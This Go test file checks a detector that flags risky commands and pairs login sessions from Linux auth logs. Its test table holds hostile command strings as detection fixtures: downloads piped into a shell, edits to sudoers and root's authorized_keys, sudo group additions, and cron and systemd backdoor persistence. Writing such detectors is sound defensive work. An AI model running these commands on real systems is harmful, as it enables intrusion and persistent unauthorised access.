package linuxsession

import (
	"slices"
	"strings"
	"testing"
	"time"
)

func TestReasons(t *testing.T) {
	risky := map[string]string{
		"/bin/bash":                                    "sudo to a shell",
		"/usr/bin/zsh -l":                              "sudo to a shell",
		"/usr/bin/sudo -i":                             "sudo to a shell",
		"/bin/su -":                                    "sudo to a shell",
		"bash -c curl -fsSL http://x/i.sh | sh":        "download piped to a shell",
		"sh -c wget -qO- https://x/y | sudo bash":      "download piped to a shell",
		`bash -c "$(curl -fsSL https://x/install.sh)"`: "download piped to a shell",
		"/usr/bin/vim /etc/sudoers":                    "edit of a sensitive file",
		"/usr/bin/tee -a /root/.ssh/authorized_keys":   "edit of a sensitive file",
		"sed -i s/^#PermitRootLogin/PermitRootLogin/ /etc/ssh/sshd_config": "edit of a sensitive file",
		"cp /tmp/x /etc/ld.so.preload":                                     "edit of a sensitive file",
		"/usr/sbin/useradd -m -G sudo svc":                                 "account created or changed",
		"usermod -aG sudo mallory":                                         "account created or changed",
		"passwd root":                                                      "account created or changed",
		"crontab /tmp/.c":                                                  "cron persistence",
		"crontab -e":                                                       "cron persistence",
		"crontab -u www-data -":                                            "cron persistence",
		"cp x /etc/cron.d/update":                                          "cron persistence",
		"systemctl enable --now backdoor.service":                          "systemd persistence",
		"systemctl --user enable x":                                        "systemd persistence",
		"cp x /etc/systemd/system/x.service":                               "systemd persistence",
	}
	for cmd, want := range risky {
		if got := Reasons(cmd); !slices.Contains(got, want) {
			t.Errorf("%q: %v, want %q", cmd, got, want)
		}
	}
	for _, cmd := range []string{
		"/usr/bin/apt update", "crontab -l", "crontab -r", "systemctl status nginx", "systemctl restart nginx",
		"vim /etc/nginx/nginx.conf", "cat /etc/passwd", "git pull", "ls -la", "curl -fsSL https://example.org/status",
		"bash deploy.sh", "tail -n 50 /var/log/auth.log", "grep -r cron /var/log/syslog", "less /etc/ssh/sshd_config",
	} {
		if got := Reasons(cmd); len(got) != 0 {
			t.Errorf("benign %q flagged: %v", cmd, got)
		}
	}
}

func TestSessionsPairing(t *testing.T) {
	at := func(m int) time.Time { return time.Date(2026, 11, 23, 8, m, 0, 0, time.UTC) }
	lines := []Line{
		{at(0), "h", "sshd", 10, "Accepted password for ann from 192.0.2.1 port 1 ssh2"},
		{at(0), "h", "sshd", 10, "pam_unix(sshd:session): session opened for user ann(uid=1000) by (uid=0)"},
		{at(1), "h", "su", 20, "pam_unix(su:session): session opened for user root(uid=0) by ann(uid=1000)"},
		{at(2), "h", "su", 20, "pam_unix(su:session): session closed for user root"},
		{at(3), "h", "login", 30, "pam_unix(login:session): session opened for user ops(uid=1001) by LOGIN(uid=0)"},
		{at(4), "h", "sshd", 10, "pam_unix(sshd:session): session closed for user ann"},
		{at(5), "h", "sshd", 11, "pam_unix(sshd:session): session closed for user nobody"}, // unpaired: ignored
	}
	got := Sessions(lines)
	if len(got) != 3 {
		t.Fatalf("%d sessions: %+v", len(got), got)
	}
	if s := got[0]; s.Kind != "ssh" || s.User != "ann" || s.Source != "192.0.2.1" || s.Duration() != 4*time.Minute {
		t.Errorf("ssh %+v", s)
	}
	if s := got[1]; s.Kind != "su" || s.User != "root" || s.By != "ann" || s.Duration() != time.Minute {
		t.Errorf("su %+v", s)
	}
	if s := got[2]; s.Kind != "login" || s.User != "ops" || !s.Open() {
		t.Errorf("login %+v", s)
	}
	Assess(got, nil)
	if !slices.Contains(got[1].Reasons, "su to root") || len(got[0].Reasons) != 0 {
		t.Errorf("reasons %v %v", got[1].Reasons, got[0].Reasons)
	}
}

func FuzzSessions(f *testing.F) {
	f.Add("sshd", "Accepted publickey for alice from 203.0.113.10 port 50122 ssh2")
	f.Add("sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash")
	f.Add("su", "pam_unix(su:session): session opened for user root(uid=0) by alice(uid=1000)")
	f.Add("systemd-logind", "New session 11 of user alice.")
	f.Fuzz(func(t *testing.T, app, msg string) {
		now := time.Date(2026, 11, 23, 8, 0, 0, 0, time.UTC)
		ss := Sessions([]Line{{now, "h", app, 1, msg}, {now.Add(time.Minute), "h", app, 1, msg}})
		Assess(ss, []Exec{{Time: now.Add(30 * time.Second), Host: "h", PID: 2, PPID: 1, Session: "1", Cmdline: msg}})
		for _, s := range ss {
			if s.Kind == "" || strings.ContainsRune(s.User, ' ') {
				t.Fatalf("session %+v from %q", s, msg)
			}
		}
		Clusters(ss)
	})
}
